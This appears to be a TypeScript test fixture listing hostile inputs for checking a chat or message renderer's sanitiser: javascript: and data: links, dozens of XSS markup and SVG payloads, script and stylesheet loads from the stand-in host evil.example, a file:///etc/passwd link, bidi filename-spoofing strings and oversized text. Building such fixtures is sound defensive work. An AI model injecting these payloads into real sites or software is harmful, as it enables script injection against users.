/**
 * What people write who mean harm, in one place: whoever shows what others wrote is tested with all of it. Each that is taken
 * for more than text calls `alert`, whichever frame it comes to.
 */

/** Links that are none: no protocol but those of the web and of mail. */
export const links: readonly string[] = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  'java\tscript:alert(1)',
  'java\nscript:alert(1)',
  '&#106;avascript:alert(1)',
  '&#x6A&#x61;vascript:alert(1)',
  'javascript&colon;alert(1)',
  '\u0001javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'vbscript:msgbox(1)',
  'file:///etc/passwd',
  'blob:https://zone.example/1',
  'view-source:https://zone.example',
  'filesystem:https://zone.example/a',
  '//zone.example',
  '/settings',
  '#fragment',
  '',
  'https://user:pass@zone.example',
  'ftp://zone.example',
  'intent://a#Intent;end',
  'matrix:x/room:zone.example'
].map((href) => `<a href="${href}">x</a>`);

/** As the HTML of a message, and wherever else somebody writes something. */
export const markup: readonly string[] = [
  ...links,
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)" alt="<script>alert(1)</script>">',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<body onload=alert(1)>x</body>',
  '<style>*{background:url(javascript:alert(1))}</style>',
  '<p style="position:fixed;inset:0">x</p>',
  '<template><img src=x onerror=alert(1)></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<a href=javascript:alert(1)//',
  '<b onmouseover=alert(1)>x',
  '<pre><code class="language-x&quot; onload=alert(1)">x</code></pre>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel="stylesheet" href="//evil.example/x.css">',
  '<video><source onerror=alert(1)></video>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
  '\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt>',
  '<table><td><a href="javascript:alert(1)">x</a>',
  '<li><ul><ol><hr><b><h1>',
  '"><img src=x onerror=alert(1)>',
  "'-alert(1)-'",
  '</textarea></title></style></script><script>alert(1)</script>',
  '<details open ontoggle=alert(1)>x</details>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">',
  '{@html "<img src=x onerror=alert(1)>"}',
  '${alert(1)}'
];

/** Pictures that are documents, with a script in each place that one can be. */
export const drawings: readonly string[] = [
  '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>',
  '<svg xmlns="http://www.w3.org/2000/svg"><animate attributeName="x" onbegin="alert(1)" dur="1s"/></svg>',
  '<svg xmlns="http://www.w3.org/2000/svg"><image href="x" onerror="alert(1)"/></svg>',
  '<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="alert(1)"/></foreignObject></svg>',
  '<svg xmlns="http://www.w3.org/2000/svg" xmlns:x="http://www.w3.org/1999/xlink"><a x:href="javascript:alert(1)"><rect width="9" height="9"/></a></svg>',
  '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="data:text/xml,x"?><svg xmlns="http://www.w3.org/2000/svg"><script href="data:text/javascript,alert(1)"/></svg>'
];

/** Marks above and below marks, far over the lines beside them. */
export const heap = `Z${'\u0321\u035f\u0348\u0334\u0310\u0346\u0363'.repeat(60)}algo`;
/** Signs that turn how what follows is read, and those that end what keeps a name apart from it (UAX #9). */
export const turning: readonly string[] = [
  '\u202egnp.exe',
  '\u2069\u202egnp',
  '\u202d\u2067x\u2069\u2069\u202e',
  '\u2066\u2067\u2068x'
];
/** 1 MB, which no server passes on and a hostile one might: one word, many lines, many marks. */
export const megabytes: readonly string[] = ['x'.repeat(1_000_000), 'a\n'.repeat(500_000), '**_'.repeat(330_000)];
